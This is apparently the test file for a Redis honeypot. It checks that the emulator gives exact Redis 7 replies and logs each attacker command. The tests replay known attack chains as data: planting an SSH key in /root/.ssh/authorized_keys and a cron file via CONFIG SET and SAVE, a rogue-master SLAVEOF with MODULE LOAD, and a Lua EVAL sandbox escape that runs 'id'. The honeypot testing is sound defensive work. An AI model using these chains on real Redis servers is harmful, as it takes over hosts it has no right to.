// End to end with the real redis-cli: Redis 7.0.15's exact replies and the redis.command events in the
// store, field by field and in order, for the classic exploitation chains.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { requirePrograms } from '../helpers/programs.js';
import { own, redisCli, startRedisApp, storedEvents } from './helpers.js';

test('PING, INFO server with a growing uptime, full INFO sections, CONFIG GET dir', async (ctx) => {
  if (!requirePrograms(ctx, 'redis-cli')) return;
  const t = await startRedisApp();
  try {
    const port = t.app.port('redis');
    assert.deepEqual(await redisCli(port, ['PING']), { code: 0, stdout: 'PONG\n', stderr: '' });

    const info = (await redisCli(port, ['INFO', 'server'])).stdout;
    const lines = info.trim().split('\r\n');
    assert.equal(lines[0], '# Server');
    const field = (text: string, name: string) => new RegExp(`^${name}:(.*)$`, 'm').exec(text)?.[1];
    assert.equal(field(info, 'redis_version'), '7.0.15');
    assert.equal(field(info, 'redis_mode'), 'standalone');
    assert.match(field(info, 'os') ?? '', /^Linux 6\.1\.0-\S+ x86_64$/);
    assert.equal(field(info, 'arch_bits'), '64');
    assert.match(field(info, 'process_id') ?? '', /^\d+$/);
    assert.equal(field(info, 'tcp_port'), '6379');
    assert.match(field(info, 'run_id') ?? '', /^[0-9a-f]{40}$/);
    assert.ok(!lines.some((l) => l.startsWith('# ') && l !== '# Server'), 'only the server section');
    const up1 = Number(field(info, 'uptime_in_seconds'));
    assert.ok(up1 > 86_400, `a believable uptime base: ${up1}`);
    await new Promise((r) => setTimeout(r, 1100));
    const again = (await redisCli(port, ['INFO', 'server'])).stdout;
    assert.ok(Number(field(again, 'uptime_in_seconds')) > up1, 'uptime grows');
    assert.equal(field(again, 'process_id'), field(info, 'process_id'), 'one process across connections');

    const all = (await redisCli(port, ['INFO'])).stdout;
    assert.deepEqual(
      all.split('\r\n').filter((l) => l.startsWith('# ')),
      ['# Server', '# Clients', '# Memory', '# Persistence', '# Stats', '# Replication', '# CPU', '# Modules', '# Errorstats', '# Cluster', '# Keyspace'],
    );
    assert.equal(field(all, 'role'), 'master');
    assert.equal(field(all, 'connected_clients'), '1');

    assert.equal((await redisCli(port, ['CONFIG', 'GET', 'dir'])).stdout, 'dir\n/var/lib/redis\n');
    assert.equal((await redisCli(port, ['CONFIG', 'GET', 'dbfile*'])).stdout, 'dbfilename\ndump.rdb\n');

    const ev = (await storedEvents(t, 6)).filter((e) => e.eventid === 'redis.command').map(own);
    assert.deepEqual(ev, [
      { eventid: 'redis.command', command: 'PING', args: [], args_truncated: false },
      { eventid: 'redis.command', command: 'INFO', args: ['server'], args_truncated: false },
      { eventid: 'redis.command', command: 'INFO', args: ['server'], args_truncated: false },
      { eventid: 'redis.command', command: 'INFO', args: [], args_truncated: false },
      { eventid: 'redis.command', command: 'CONFIG', args: ['GET', 'dir'], args_truncated: false },
      { eventid: 'redis.command', command: 'CONFIG', args: ['GET', 'dbfile*'], args_truncated: false },
    ]);
  } finally {
    await t.cleanup();
  }
});

test('the authorized_keys and cron chains: CONFIG SET dir, dbfilename, SET the key, SAVE; recorded step by step, the payload kept', async (ctx) => {
  if (!requirePrograms(ctx, 'redis-cli')) return;
  const t = await startRedisApp();
  try {
    const port = t.app.port('redis');
    const key = '\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@kali\n\n\n';
    const steps: [string[], string, string?][] = [
      [['FLUSHALL'], 'OK\n'],
      [['-x', 'SET', 'crackit'], 'OK\n', key],
      [['CONFIG', 'SET', 'dir', '/root/.ssh'], 'OK\n'],
      [['CONFIG', 'SET', 'dbfilename', 'authorized_keys'], 'OK\n'],
      [['SAVE'], 'OK\n'],
      [['CONFIG', 'GET', 'dir'], 'dir\n/root/.ssh\n'],
      [['GET', 'crackit'], `${key}\n`],
      [['CONFIG', 'SET', 'dir', '/var/spool/cron/crontabs'], 'OK\n'],
      [['CONFIG', 'SET', 'dbfilename', '/etc/cron.d/x'], "ERR CONFIG SET failed (possibly related to argument 'dbfilename') - dbfilename can't be a path, just a filename\n\n"],
      [['CONFIG', 'SET', 'dbfilename', 'root'], 'OK\n'],
      [['BGSAVE'], 'Background saving started\n'],
    ];
    for (const [args, want, input] of steps) {
      const r = await redisCli(port, args, input);
      assert.equal(r.stdout, want, args.join(' '));
    }
    const all = await storedEvents(t, steps.length);
    const uploads = all.filter((e) => e.eventid === 'session.file_upload').map(own);
    const shasum = uploads[0]?.shasum as string;
    assert.deepEqual(uploads, [
      { eventid: 'session.file_upload', filename: '/root/.ssh/authorized_keys', shasum, size: Buffer.byteLength(key) + 1, duplicate: false, truncated: false },
      { eventid: 'session.file_upload', filename: '/var/spool/cron/crontabs/root', shasum, size: Buffer.byteLength(key) + 1, duplicate: true, truncated: false },
    ]);
    assert.equal(readFileSync(join(t.dir, 'artifacts', shasum), 'utf8'), `${key}\n`, 'the key as SAVE would have written it');
    const ev = all.filter((e) => e.eventid === 'redis.command').map(own);
    assert.deepEqual(ev, [
      { eventid: 'redis.command', command: 'FLUSHALL', args: [], args_truncated: false },
      { eventid: 'redis.command', command: 'SET', args: ['crackit', key], args_truncated: false },
      { eventid: 'redis.command', command: 'CONFIG', args: ['SET', 'dir', '/root/.ssh'], args_truncated: false },
      { eventid: 'redis.command', command: 'CONFIG', args: ['SET', 'dbfilename', 'authorized_keys'], args_truncated: false },
      { eventid: 'redis.command', command: 'SAVE', args: [], args_truncated: false },
      { eventid: 'redis.command', command: 'CONFIG', args: ['GET', 'dir'], args_truncated: false },
      { eventid: 'redis.command', command: 'GET', args: ['crackit'], args_truncated: false },
      { eventid: 'redis.command', command: 'CONFIG', args: ['SET', 'dir', '/var/spool/cron/crontabs'], args_truncated: false },
      { eventid: 'redis.command', command: 'CONFIG', args: ['SET', 'dbfilename', '/etc/cron.d/x'], args_truncated: false },
      { eventid: 'redis.command', command: 'CONFIG', args: ['SET', 'dbfilename', 'root'], args_truncated: false },
      { eventid: 'redis.command', command: 'BGSAVE', args: [], args_truncated: false },
    ]);
  } finally {
    await t.cleanup();
  }
});

test('SLAVEOF a rogue master is answered OK, shown in INFO, and never connected to; MODULE LOAD fails as in Redis', async (ctx) => {
  if (!requirePrograms(ctx, 'redis-cli')) return;
  const t = await startRedisApp();
  let contacted = 0;
  const rogue = createServer((s) => {
    contacted++;
    s.destroy();
  });
  await new Promise<void>((r) => rogue.listen(0, '127.0.0.1', () => r()));
  try {
    const port = t.app.port('redis');
    const roguePort = String((rogue.address() as { port: number }).port);
    assert.equal((await redisCli(port, ['SLAVEOF', '127.0.0.1', roguePort])).stdout, 'OK\n');
    assert.equal((await redisCli(port, ['SLAVEOF', '127.0.0.1', roguePort])).stdout, 'OK Already connected to specified master\n');
    const repl = (await redisCli(port, ['INFO', 'replication'])).stdout;
    assert.match(repl, /^role:slave$/m);
    assert.match(repl, new RegExp(`^master_host:127\\.0\\.0\\.1$[\\s\\S]*^master_port:${roguePort}$[\\s\\S]*^master_link_status:down$`, 'm'));
    assert.equal((await redisCli(port, ['SET', 'a', 'b'])).stdout, "READONLY You can't write against a read only replica.\n\n");
    assert.equal((await redisCli(port, ['CONFIG', 'SET', 'dbfilename', 'exp.so'])).stdout, 'OK\n');
    assert.equal((await redisCli(port, ['MODULE', 'LOAD', '/tmp/exp.so'])).stdout, 'ERR Error loading the extension. Please check the server logs.\n\n');
    assert.equal((await redisCli(port, ['SLAVEOF', 'NO', 'ONE'])).stdout, 'OK\n');
    assert.match((await redisCli(port, ['INFO', 'replication'])).stdout, /^role:master$/m);
    // Give an (erroneous) outbound replication connection time to show up before asserting there was none.
    await new Promise((r) => setTimeout(r, 500));
    assert.equal(contacted, 0, 'the sensor connected to the master it was given');

    const ev = (await storedEvents(t, 8)).filter((e) => e.eventid === 'redis.command').map(own);
    assert.deepEqual(ev.map((e) => [e.command, ...(e.args as string[])]), [
      ['SLAVEOF', '127.0.0.1', roguePort],
      ['SLAVEOF', '127.0.0.1', roguePort],
      ['INFO', 'replication'],
      ['SET', 'a', 'b'],
      ['CONFIG', 'SET', 'dbfilename', 'exp.so'],
      ['MODULE', 'LOAD', '/tmp/exp.so'],
      ['SLAVEOF', 'NO', 'ONE'],
      ['INFO', 'replication'],
    ]);
  } finally {
    rogue.close();
    await t.cleanup();
  }
});

test('unknown commands, wrong arity, AUTH without a password, EVAL exploit payload: exact Redis 7 errors', async (ctx) => {
  if (!requirePrograms(ctx, 'redis-cli')) return;
  const t = await startRedisApp();
  try {
    const port = t.app.port('redis');
    const cases: [string[], string][] = [
      [['foo', 'a', 'b'], "ERR unknown command 'foo', with args beginning with: 'a' 'b' \n\n"],
      [['flurb'], "ERR unknown command 'flurb', with args beginning with: \n\n"],
      [['GET', 'a', 'b'], "ERR wrong number of arguments for 'get' command\n\n"],
      [['CONFIG', 'GET'], "ERR wrong number of arguments for 'config|get' command\n\n"],
      [['CONFIG', 'frob'], "ERR unknown subcommand 'frob'. Try CONFIG HELP.\n\n"],
      [['AUTH', 's3cret'], 'ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?\n\n'],
      [
        ['EVAL', 'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res', '0'],
        "ERR user_script:1: Script attempted to access nonexistent global variable 'package' script: 59383731574f8ef9c055b3f4cf9cca078446f86d, on @user_script:1.\n\n",
      ],
    ];
    for (const [args, want] of cases) assert.equal((await redisCli(port, args)).stdout, want, args.join(' '));
    const all = await storedEvents(t, cases.length);
    const auth = all.filter((e) => e.eventid === 'login.failed').map(own);
    assert.deepEqual(auth, [{ eventid: 'login.failed', username: 'default', password: 's3cret', method: 'redis-auth' }]);
    const cmds = all.filter((e) => e.eventid === 'redis.command').map((e) => (e.eventid === 'redis.command' ? e.command : ''));
    assert.deepEqual(cmds, ['FOO', 'FLURB', 'GET', 'CONFIG', 'CONFIG', 'AUTH', 'EVAL']);
  } finally {
    await t.cleanup();
  }
});
